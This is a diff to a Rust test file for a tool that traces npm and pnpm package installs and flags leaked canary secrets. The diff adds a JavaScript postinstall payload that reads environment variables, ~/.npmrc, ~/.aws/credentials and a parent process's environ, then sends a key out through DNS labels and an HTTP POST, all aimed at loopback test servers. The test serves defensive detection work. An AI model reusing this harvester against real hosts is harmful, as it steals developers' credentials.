@@ -1,29 +1,135 @@
 //! `run --trace` with real npm: two local package tarballs built in the test, installed from
 //! disk. The "evil" one's postinstall reads its environment, ~/.npmrc, ~/.aws/credentials and
-//! its parent's /proc/PID/environ, looks up a name through DNS and sends what it found over UDP
-//! (all on loopback); the benign one only writes a file. The trace must name the evil package
-//! and what it did, raise the canary alert, and say nothing of the benign one beyond its exec;
-//! the same under the real pnpm. Further tests put a canary on a command line, in a file, in a
-//! Node TCP stream and into curl through a pipe.
+//! its parent's /proc/PID/environ, resolves a name made of the key it was given through a DNS
+//! server the test runs on loopback, and POSTs its loot to an HTTP server the test runs on
+//! loopback; the benign one only writes a file. The trace must name the evil package and what
+//! it did, flag the canary in the POST body and in the DNS name, and say nothing of the benign
+//! one beyond its exec, and the servers must receive canaries only; the same under the real
+//! pnpm, and under the install sandbox (each attempt blocked, and reported so). Further tests
+//! put a canary on a command line, in a file, in a Node TCP stream and into curl through a pipe.
 
 mod common;
 use common::*;
 use std::path::Path;
 use std::process::Command;
+use std::sync::{Arc, Mutex};
 
 const EVIL: &str = r#"
-const fs = require("fs"), os = require("os"), dgram = require("dgram");
+const fs = require("fs"), os = require("os"), http = require("http"), dns = require("dns");
 let loot = JSON.stringify(process.env);
 for (const f of [".npmrc", ".aws/credentials"]) {
   try { loot += fs.readFileSync(os.homedir() + "/" + f, "utf8"); } catch (e) {}
 }
 try { loot += fs.readFileSync("/proc/" + process.ppid + "/environ", "utf8"); } catch (e) {}
-const s = dgram.createSocket("udp4");
-const q = Buffer.concat([Buffer.from([0x12, 0x34, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0]),
-  ...["k3y", "exfil", "example"].map(l => Buffer.concat([Buffer.from([l.length]), Buffer.from(l)])),
-  Buffer.from([0, 0, 1, 0, 1])]);
-s.send(q, 53, "127.0.0.1", () => s.send(Buffer.from(loot), 9, "127.0.0.1", () => s.close()));
+const key = process.env.ANTHROPIC_API_KEY || "none";
+const name = key.match(/.{1,60}/g).join(".") + ".exfil.example";
+const r = new dns.Resolver({ timeout: 500, tries: 1 });
+r.setServers(["DNS_HOST"]);
+r.resolve4(name, () => {
+  const req = http.request({ host: "127.0.0.1", port: HTTP_PORT, method: "POST", path: "/" },
+    res => res.resume());
+  req.on("error", () => {});
+  req.end(loot);
+});
 "#;
+
+/// The harvester's far ends on loopback, keeping what they receive: a DNS server on port 53 of
+/// its own loopback address (tests in parallel do not collide), answering every query NXDOMAIN
+/// at once, and an HTTP server answering 200. Port 53 needs root: without it the DNS server is
+/// not there, and what it would have received is not checked (the trace still sees the query).
+struct Loot {
+    dns_host: &'static str,
+    dns: Option<Arc<Mutex<Vec<Vec<u8>>>>>,
+    http_port: u16,
+    http: Arc<Mutex<Vec<u8>>>,
+}
+
+impl Loot {
+    fn start(dns_host: &'static str) -> Loot {
+        use std::io::{Read, Write};
+        let dns = std::net::UdpSocket::bind((dns_host, 53)).ok().map(|sock| {
+            let got = Arc::new(Mutex::new(Vec::new()));
+            let keep = got.clone();
+            std::thread::spawn(move || {
+                let mut buf = [0u8; 1500];
+                while let Ok((n, from)) = sock.recv_from(&mut buf) {
+                    keep.lock().unwrap().push(buf[..n].to_vec());
+                    if n >= 4 {
+                        // The query back as a response: QR set, RCODE 3 (no such name).
+                        let mut answer = buf[..n].to_vec();
+                        answer[2] |= 0x80;
+                        answer[3] = (answer[3] & 0xf0) | 3;
+                        let _ = sock.send_to(&answer, from);
+                    }
+                }
+            });
+            got
+        });
+        let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+        let http_port = listener.local_addr().unwrap().port();
+        let http = Arc::new(Mutex::new(Vec::new()));
+        let keep = http.clone();
+        std::thread::spawn(move || {
+            for c in listener.incoming() {
+                let Ok(mut c) = c else { continue };
+                let _ = c.set_read_timeout(Some(std::time::Duration::from_millis(300)));
+                let mut buf = [0u8; 65536];
+                while let Ok(n) = c.read(&mut buf) {
+                    if n == 0 {
+                        break;
+                    }
+                    keep.lock().unwrap().extend_from_slice(&buf[..n]);
+                }
+                let _ = c.write_all(b"HTTP/1.0 200 OK\r\nContent-Length: 2\r\n\r\nok");
+            }
+        });
+        Loot {
+            dns_host,
+            dns,
+            http_port,
+            http,
+        }
+    }
+
+    fn script(&self) -> String {
+        EVIL.replace("DNS_HOST", self.dns_host)
+            .replace("HTTP_PORT", &self.http_port.to_string())
+    }
+
+    /// The servers received the canary given for ANTHROPIC_API_KEY (in the POST body, and
+    /// across the labels of the DNS query), and no real value.
+    fn assert_only_canaries(&self, real: &[String]) {
+        let body = String::from_utf8_lossy(&self.http.lock().unwrap()).into_owned();
+        assert!(body.contains("sk-ant-api03-"), "no canary in the POST");
+        let mut received = vec![body];
+        match &self.dns {
+            Some(dns) => {
+                let names: Vec<String> = dns
+                    .lock()
+                    .unwrap()
+                    .iter()
+                    .filter_map(|q| keyfence::trace::dns_query_name(q))
+                    .map(|n| n.replace('.', ""))
+                    .collect();
+                assert!(
+                    names.iter().any(|n| n.starts_with("sk-ant-api03-")),
+                    "no canary in the DNS queries"
+                );
+                received.extend(names);
+            }
+            None => eprintln!(
+                "cannot bind {}:53 (not root): the DNS server's side is not checked",
+                self.dns_host
+            ),
+        }
+        for value in real {
+            assert!(
+                !received.iter().any(|r| r.contains(value.as_str())),
+                "a real value reached a loopback server"
+            );
+        }
+    }
+}
 
 fn package(dir: &Path, name: &str, postinstall: &str, script: &str) -> std::path::PathBuf {
     let src = dir.join(name);
@@ -58,13 +164,16 @@ fn trace_names_the_package_that_harvests_and_alerts_on_the_canary() {
     }
     let mut fx = Fixture::new();
     let key = fx.key("anthropic");
-    let npm_token = fx.key("npm");
+    // The user's ~/.npmrc holds a registered canary, the environment a real key that
+    // `--canary` swaps for another: the harvester takes bait only.
+    let npm_canary = new_canary(&fx, "npm");
     fx.home_file(
         ".npmrc",
-        &format!("//registry.npmjs.org/:_authToken={npm_token}\n"),
+        &format!("//registry.npmjs.org/:_authToken={npm_canary}\n"),
     );
+    let loot = Loot::start("127.0.0.1");
     let pkgs = fx.dir.path().join("pkgs");
-    let evil = package(&pkgs, "evil-helper", "node install.js", EVIL);
+    let evil = package(&pkgs, "evil-helper", "node install.js", &loot.script());
     let benign = package(
         &pkgs,
         "benign-helper",
@@ -126,10 +235,11 @@ fn trace_names_the_package_that_harvests_and_alerts_on_the_canary() {
     assert!(
         of(evil_group, "dns")
             .iter()
-            .any(|e| e["name"] == "k3y.exfil.example"),
+            .any(|e| e["name"].as_str().unwrap().contains("<keyfence:")),
         "{events:?}"
     );
-    assert_harvest_attributed(&events);
+    assert_harvest_attributed(&events, loot.http_port);
+    loot.assert_only_canaries(&fx.planted);
     // The summary on stderr names the package; the alert is there.
     assert!(
         r.stderr.contains("ALERT: evil-helper@1.0.0 postinstall"),
@@ -154,6 +264,23 @@ fn trace_names_the_package_that_harvests_and_alerts_on_the_canary() {
 
 /// `--trace` without a file: the summary alone, under the top-level command's name (not
 /// keyfence's own helper).
+/// A new registered canary of `kind` (`keyfence canary new`, run directly: printing it is the
+/// point, and the harness forbids planted values in output).
+fn new_canary(fx: &Fixture, kind: &str) -> String {
+    let out = Command::new(BIN)
+        .args(["canary", "new", kind, "--label", "~/.npmrc"])
+        .env_clear()
+        .env("HOME", &fx.home)
+        .output()
+        .unwrap();
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    String::from_utf8(out.stdout).unwrap().trim().to_string()
+}
+
 /// A trace file's text and its events (one JSON object per line).
 fn read_trace(path: &Path) -> (String, Vec<serde_json::Value>) {
     let text = std::fs::read_to_string(path).unwrap();
@@ -167,7 +294,7 @@ fn read_trace(path: &Path) -> (String, Vec<serde_json::Value>) {
 /// What a traced install with both packages must show, whichever package manager ran it: the
 /// harvester's read of ~/.npmrc and its send of the canary credited to its postinstall script,
 /// and nothing but its start credited to the benign package's.
-fn assert_harvest_attributed(events: &[serde_json::Value]) {
+fn assert_harvest_attributed(events: &[serde_json::Value], http_port: u16) {
     assert_stayed_on_loopback(events);
     let of = |group: &str, kind: &str| -> Vec<&serde_json::Value> {
         events
@@ -182,13 +309,17 @@ fn assert_harvest_attributed(events: &[serde_json::Value]) {
             .any(|e| e["path"].as_str().is_some_and(|p| p.ends_with("/.npmrc"))),
         "{events:?}"
     );
-    assert!(
-        of(evil_group, "secret-sent")
-            .iter()
-            .any(|e| e["what"] == "the canary for ANTHROPIC_API_KEY"
-                && e["destination"] == "127.0.0.1:9"),
-        "{events:?}"
-    );
+    // In the POST body, and across the labels of the DNS query.
+    let sent = of(evil_group, "secret-sent");
+    let canary_to = |to: &dyn Fn(&str) -> bool| {
+        sent.iter().any(|e| {
+            e["what"] == "the canary for ANTHROPIC_API_KEY"
+                && to(e["destination"].as_str().unwrap_or(""))
+        })
+    };
+    let http = format!("127.0.0.1:{http_port}");
+    assert!(canary_to(&|d| d == http), "{events:?}");
+    assert!(canary_to(&|d| d.contains("in the DNS query")), "{events:?}");
     let benign_group = "benign-helper@1.0.0 postinstall";
     assert!(!of(benign_group, "exec").is_empty(), "{events:?}");
     for kind in ["open", "dns", "connect", "secret-sent", "secret-written"] {
@@ -460,13 +591,14 @@ fn trace_names_the_package_that_harvests_under_pnpm() {
     );
     let mut fx = Fixture::new();
     let key = fx.key("anthropic");
-    let npm_token = fx.key("npm");
+    let npm_canary = new_canary(&fx, "npm");
     fx.home_file(
         ".npmrc",
-        &format!("//registry.npmjs.org/:_authToken={npm_token}\n"),
+        &format!("//registry.npmjs.org/:_authToken={npm_canary}\n"),
     );
     let pkgs = fx.dir.path().join("pkgs");
-    package(&pkgs, "evil-helper", "node install.js", EVIL);
+    let loot = Loot::start("127.0.0.2");
+    package(&pkgs, "evil-helper", "node install.js", &loot.script());
     package(
         &pkgs,
         "benign-helper",
@@ -510,7 +642,8 @@ fn trace_names_the_package_that_harvests_under_pnpm() {
     );
     assert_eq!(r.code, 0, "{}\n{}", r.stdout, r.stderr);
     let (text, events) = read_trace(&trace);
-    assert_harvest_attributed(&events);
+    assert_harvest_attributed(&events, loot.http_port);
+    loot.assert_only_canaries(&fx.planted);
     assert!(
         r.stderr.contains("ALERT: evil-helper@1.0.0 postinstall"),
         "{}",
